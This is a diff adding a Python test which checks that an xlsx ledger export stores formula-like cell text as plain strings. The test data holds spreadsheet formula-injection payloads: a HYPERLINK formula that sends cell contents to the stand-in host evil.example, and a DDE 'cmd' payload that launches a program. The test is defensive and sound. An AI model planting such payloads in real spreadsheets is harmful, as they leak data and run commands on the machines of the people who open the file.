@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zipfile
 from pathlib import Path
 
 from openpyxl import load_workbook
@@ -39,3 +40,31 @@ def test_empty_taizhang_still_has_the_header(tmp_path: Path) -> None:
     assert list(workbook.worksheets[0].iter_rows(values_only=True)) == [COLUMNS]
     workbook.close()
     assert [p.name for p in tmp_path.iterdir()] == ["empty.xlsx"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
+    rows = [TaizhangRow("千秋所", "2026-11-03 09:30", text, text, text, text) for text in FORMULAS]
+    path = export_xlsx(rows, tmp_path / "台账.xlsx")
+
+    workbook = load_workbook(path)
+    sheet = workbook.worksheets[0]
+    for row_no, text in enumerate(FORMULAS, start=2):
+        for column in "CDEF":
+            cell = sheet[f"{column}{row_no}"]
+            assert cell.data_type == "s", (cell.coordinate, cell.data_type)
+            assert cell.value == text
+    workbook.close()
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
